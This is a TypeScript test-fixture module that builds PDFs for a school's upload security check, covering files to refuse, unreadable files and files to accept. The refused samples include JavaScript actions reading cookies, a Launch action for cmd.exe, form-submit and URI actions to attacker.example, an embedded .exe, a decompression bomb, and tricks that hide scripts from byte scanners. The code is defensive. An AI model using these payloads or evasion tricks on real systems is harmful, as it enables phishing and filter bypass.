import { randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { degrees, drawImage, PDFDocument, PDFName, PDFString, popGraphicsState, pushGraphicsState, StandardFonts } from 'pdf-lib';

/**
 * Hand-crafted PDFs for the upload check (docs/security.md): one for each kind of
 * active content a school's document must not carry, the ways of hiding it from a byte pattern,
 * and ordinary documents that must still be accepted. Each is a complete file with a
 * cross-reference table, so a real viewer would open it as written.
 */

/** A part of the file body: an indirect object (number and text) or raw bytes between objects. */
type Part = { obj: number; body: string | Buffer } | { raw: string | Buffer };

const latin1 = (text: string | Buffer) => (typeof text === 'string' ? Buffer.from(text, 'latin1') : text);

/**
 * Writes a PDF from its parts with a classic cross-reference table. `xrefOffsets` can point an
 * object at a place the in-order reading does not see as an object (the hidden-object case).
 */
export function writePdf(parts: readonly Part[], options: { trailer?: string; xrefAt?: Record<number, number> } = {}): Buffer {
  const chunks: Buffer[] = [latin1('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
  let length = chunks[0]!.length;
  const offsets = new Map<number, number>();
  const push = (bytes: Buffer) => {
    chunks.push(bytes);
    length += bytes.length;
  };
  for (const part of parts) {
    if ('raw' in part) push(latin1(part.raw));
    else {
      offsets.set(part.obj, length);
      push(Buffer.concat([latin1(`${part.obj} 0 obj\n`), latin1(part.body), latin1('\nendobj\n')]));
    }
  }
  for (const [obj, offset] of Object.entries(options.xrefAt ?? {})) offsets.set(Number(obj), offset);
  const size = Math.max(0, ...offsets.keys()) + 1;
  const xrefOffset = length;
  const rows = ['xref', `0 ${size}`, '0000000000 65535 f \n'.trimEnd()];
  for (let n = 1; n < size; n++) {
    const offset = offsets.get(n);
    rows.push(offset === undefined ? '0000000000 65535 f ' : `${String(offset).padStart(10, '0')} 00000 n `);
  }
  push(latin1(`${rows.join('\n')}\ntrailer\n<< /Size ${size} /Root 1 0 R ${options.trailer ?? ''}>>\nstartxref\n${xrefOffset}\n%%EOF\n`));
  return Buffer.concat(chunks);
}

/** One page that says something, and the catalog: what every crafted file is built around. */
function page(extra = ''): Part[] {
  const text = 'BT /F1 12 Tf 72 720 Td (Birth certificate) Tj ET';
  return [
    { obj: 2, body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
    { obj: 3, body: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${extra}>>` },
    { obj: 4, body: `<< /Length ${text.length} >>\nstream\n${text}\nendstream` },
    { obj: 5, body: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>' },
  ];
}

const catalog = (extra = '') => ({ obj: 1, body: `<< /Type /Catalog /Pages 2 0 R ${extra}>>` });
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>';

/** Each refused kind, and each way of hiding one: [what it is, the file]. */
export function refusedPdfs(): Array<[string, Buffer]> {
  const hiddenInData = (() => {
    // Object 6 (the script) sits inside the data of stream 7, whose /Length covers it: read in
    // order it is picture data, but the cross-reference table points a viewer straight at it.
    const prefix = '%PDF-1.7\n';
    const hidden = `6 0 obj\n${SCRIPT}\nendobj\n`;
    const parts: Part[] = [catalog('/OpenAction 6 0 R '), ...page(), { obj: 7, body: `<< /Length ${hidden.length} >>\nstream\n${hidden}\nendstream` }];
    const file = writePdf(parts);
    const at = file.indexOf(hidden, prefix.length);
    return writePdf(parts, { xrefAt: { 6: at } });
  })();
  return [
    ['a JavaScript open action', writePdf([catalog('/OpenAction 6 0 R '), ...page(), { obj: 6, body: SCRIPT }])],
    [
      'a JavaScript action between "stream" and "endstream" in comments',
      writePdf([catalog('/OpenAction 6 0 R '), ...page(), { raw: '% stream\n' }, { obj: 6, body: SCRIPT }, { raw: '% endstream\n' }]),
    ],
    [
      'a JavaScript action between "stream" and "endstream" in strings',
      writePdf([
        catalog('/OpenAction 6 0 R '),
        ...page(),
        { obj: 7, body: '<< /Title (Scan stream\n) >>' },
        { obj: 6, body: SCRIPT },
        { obj: 8, body: '<< /Title (endstream) >>' },
      ]),
    ],
    ['a JavaScript action hidden inside another stream\'s data', hiddenInData],
    ['a script in the document-level JavaScript name tree', writePdf([catalog('/Names << /JavaScript << /Names [(init) 6 0 R] >> >> '), ...page(), { obj: 6, body: SCRIPT }])],
    ['an action name in lower-case #xx escapes (/#4aavaScript)', writePdf([catalog('/OpenAction << /S /#4aavaScript /#4aS (app.alert\\(1\\)) >> '), ...page()])],
    ['a Launch action', writePdf([catalog('/OpenAction << /S /Launch /F (cmd.exe) >> '), ...page()])],
    ['a URI open action', writePdf([catalog('/OpenAction << /S /URI /URI (https://attacker.example/track) >> '), ...page()])],
    ['a URI in a page\'s additional actions', writePdf([catalog(), ...page('/AA << /O << /S /URI /URI (https://attacker.example/) >> >> ')])],
    ['a URI reached through /Next of an open action', writePdf([catalog('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://attacker.example/) >> >> '), ...page()])],
    ['an ImportData open action', writePdf([catalog('/OpenAction << /S /ImportData /F (data.fdf) >> '), ...page()])],
    ['a SubmitForm action in the catalog\'s additional actions', writePdf([catalog('/AA << /WC << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >> >> '), ...page()])],
    [
      'an embedded file',
      writePdf([
        catalog('/Names << /EmbeddedFiles << /Names [(invoice.exe) 6 0 R] >> >> '),
        ...page(),
        { obj: 6, body: '<< /Type /Filespec /F (invoice.exe) /EF << /F 7 0 R >> >>' },
        { obj: 7, body: '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream' },
      ]),
    ],
    [
      'a file attachment annotation',
      writePdf([
        catalog(),
        ...page('/Annots [6 0 R] '),
        { obj: 6, body: '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 7 0 R >>' },
        { obj: 7, body: '<< /Type /Filespec /F (notes.txt) >>' },
      ]),
    ],
    ['an XFA form', writePdf([catalog('/AcroForm << /Fields [] /XFA 6 0 R >> '), ...page(), { obj: 6, body: '<< /Length 7 >>\nstream\n<xdp/>\n\nendstream' }])],
    ['a link whose address runs a script (javascript:)', writePdf([catalog(), ...page('/Annots [6 0 R] '), { obj: 6, body: '<< /Type /Annot /Subtype /Link /Rect [0 0 20 20] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>' }])],
    ['a script inside a compressed object stream', scriptInObjectStream()],
  ];
}

/** The action inside a compressed object stream, where a plain byte scan cannot see it. */
function scriptInObjectStream(): Buffer {
  const inner = `6 0 ${SCRIPT}`;
  const data = deflateSync(Buffer.from(inner, 'latin1'));
  return writePdf([
    catalog('/OpenAction 6 0 R '),
    ...page(),
    { obj: 7, body: Buffer.concat([latin1(`<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length} >>\nstream\n`), data, latin1('\nendstream')]) },
  ]);
}

/** An encrypted file (its objects cannot be checked). */
export function encryptedPdf(): Buffer {
  return writePdf([catalog(), ...page(), { obj: 6, body: '<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <00> /U <00> >>' }], { trailer: '/Encrypt 6 0 R /ID [<01> <01>] ' });
}

/** Files that are not readable PDFs although they start like one. */
export function unreadablePdfs(): Array<[string, Buffer]> {
  const zipBomb = deflateSync(Buffer.alloc(64 * 1024 * 1024));
  return [
    ['a header and then nothing a parser can read', Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R \nendobj\n(((((\n', 'latin1')],
    [
      'an object stream that inflates to 64 MiB',
      writePdf([catalog(), ...page(), { obj: 7, body: Buffer.concat([latin1(`<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${zipBomb.length} >>\nstream\n`), zipBomb, latin1('\nendstream')]) }]),
    ],
    ['an object stream whose objects do not parse', writePdf([catalog(), ...page(), { obj: 7, body: '<< /Type /ObjStm /N 3 /First 2 /Length 4 >>\nstream\n)))(\nendstream' }])],
    ['an object stream in a filter that cannot be checked', writePdf([catalog(), ...page(), { obj: 7, body: '<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode /Length 4 >>\nstream\nabcd\nendstream' }])],
  ];
}

/** A page with a link the reader may click (a Link annotation's URI action): accepted. */
export function pdfWithClickableLink(): Buffer {
  return writePdf([
    catalog('/Outlines 7 0 R '),
    ...page('/Annots [6 0 R] '),
    { obj: 6, body: '<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /Border [0 0 0] /A << /S /URI /URI (https://www.moe.gov.tt/) >> >>' },
    { obj: 7, body: '<< /Type /Outlines /First 8 0 R /Last 8 0 R /Count 1 >>' },
    { obj: 8, body: '<< /Title (Ministry of Education) /Parent 7 0 R /A << /S /URI /URI (mailto:office@school.example) >> >>' },
  ]);
}

/**
 * A scanned document as phone apps write it: several pages, each a full-page picture (noise
 * standing in for the photo, with the bytes "/JS", "stream" and "endstream" among it), saved by
 * pdf-lib with compressed object streams.
 */
export async function multiPageScan(pages = 4, pictureBytes = 64 * 1024): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  for (let n = 1; n <= pages; n++) {
    const noise = Buffer.concat([randomBytes(pictureBytes / 2), latin1(' /JS (x) stream\nendstream 9 0 obj '), randomBytes(pictureBytes / 2)]);
    const data = noise.subarray(0, noise.length - (noise.length % 256));
    const picture = doc.context.register(
      doc.context.stream(data, { Type: 'XObject', Subtype: 'Image', Width: 256, Height: data.length / 256, ColorSpace: 'DeviceGray', BitsPerComponent: 8 }),
    );
    const sheet = doc.addPage([612, 792]);
    const name = sheet.node.newXObject('Scan', picture);
    sheet.pushOperators(pushGraphicsState(), ...drawImage(name, { x: 0, y: 0, width: 612, height: 792, rotate: degrees(0), xSkew: degrees(0), ySkew: degrees(0) }), popGraphicsState());
    sheet.drawText(`Page ${n}`, { x: 20, y: 20, size: 8, font });
  }
  doc.setTitle('Scan');
  doc.catalog.set(PDFName.of('Lang'), PDFString.of('en-TT'));
  return Buffer.from(await doc.save({ useObjectStreams: true }));
}

/**
 * A legal PDF of about `size` bytes made of many small objects (a long text document's pages,
 * fonts and annotations are thousands of dictionaries): the slowest kind of file to parse.
 */
export function manySmallObjectsPdf(size = 10 * 1024 * 1024): Buffer {
  const parts: Part[] = [catalog(), ...page()];
  const filler = ' '.repeat(40);
  let length = 0;
  for (let obj = 6; length < size - 2 * 1024 * 1024; obj++) {
    const body = `<< /Type /Annot /Subtype /Text /Rect [${obj} 0 20 20] /Contents (Note ${obj}) /NM (n${obj}) /M (D:20260101)${filler} >>`;
    parts.push({ obj, body });
    length += body.length + 24;
  }
  return writePdf(parts);
}
